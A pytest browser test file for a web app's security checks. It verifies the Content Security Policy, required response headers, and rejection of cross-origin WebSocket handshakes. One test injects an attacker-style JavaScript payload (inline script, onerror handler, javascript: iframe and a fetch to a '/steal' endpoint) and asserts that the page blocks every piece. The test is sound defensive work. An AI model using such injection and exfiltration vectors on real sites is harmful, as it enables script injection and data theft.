"""What the page refuses: scripts that are not its own, other hosts, other pages around it."""

from __future__ import annotations

import http.client
from contextlib import closing
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from qa.web.headers import HEADERS
from tests.browser.conftest import Site, Visitor
from tests.browser.test_journey import QUESTION, ask
from tests.faults import Tell

pytestmark = pytest.mark.browser

# Runs in the page as an attacker's markup would, and says what came of it
ATTACK = """async () => {
  const script = document.createElement("script");
  script.textContent = "window.ran = 'inline'";
  document.body.append(script);
  const image = document.createElement("img");
  image.setAttribute("onerror", "window.ran = 'handler'");
  image.src = "/no-such-picture";
  document.body.append(image);
  const frame = document.createElement("iframe");
  frame.src = "javascript:parent.ran = 'frame'";
  document.body.append(frame);
  let sent = "sent";
  try { await fetch("http://127.0.0.1:9/steal", { mode: "no-cors" }); }
  catch (error) { sent = "refused"; }
  await new Promise((done) => setTimeout(done, 500));
  return [window.ran ?? "nothing", sent];
}"""


def test_markup_that_got_in_would_run_nothing(visitor: Visitor, tell: Tell) -> None:
    page = visitor.open()
    ask(page, QUESTION)
    violated: list[str] = []
    page.expose_function("noteViolation", lambda directive: violated.append(directive))
    page.evaluate(
        "document.addEventListener('securitypolicyviolation',"
        " (event) => noteViolation(event.effectiveDirective))"
    )
    assert page.evaluate(ATTACK) == ["nothing", "refused"]
    page.wait_for_timeout(300)
    assert {"script-src-elem", "script-src-attr", "connect-src"} <= set(violated)
    tell("a script gets into the page", "serving", "it does not run, and reaches no other host")


def test_the_page_itself_breaks_no_rule(visitor: Visitor) -> None:
    page = visitor.open()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.reload()
    turn = ask(page, QUESTION)
    turn.get_by_text("By date and source").click()
    expect(turn.locator("[data-testid=stVegaLiteChart] svg").first).to_be_visible()
    turn.get_by_role("button", name="Open in the article [1]").click()
    expect(page.get_by_role("dialog").locator("article mark").first).to_be_attached()
    assert [text for text in said if "Content Security Policy" in text] == []


def test_every_answer_has_the_headers(site: Site) -> None:
    for path in ("/", "/articles", "/_stcore/health", "/nothing-here"):
        _, headers = request(site, path)
        assert {name: headers[name] for name in HEADERS} == HEADERS, path


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 101),
        ({"Host": "news.example"}, 403),
        ({"Origin": "http://news.example"}, 403),
    ],
)
def test_no_other_site_reaches_the_answers(
    site: Site, headers: dict[str, str], status: int
) -> None:
    """What pages are filled with comes over this socket alone."""
    handshake = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Origin": site.url,
    }
    got, _ = request(site, "/_stcore/stream", {**handshake, **headers})
    assert got == status


def request(
    site: Site, path: str, headers: dict[str, str] | None = None
) -> tuple[int, http.client.HTTPMessage]:
    """Status and headers of an answer."""
    parts = urlsplit(site.url)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=20)
    with closing(connection):
        connection.request("GET", path, headers=headers or {})
        with connection.getresponse() as answer:
            return answer.status, answer.headers
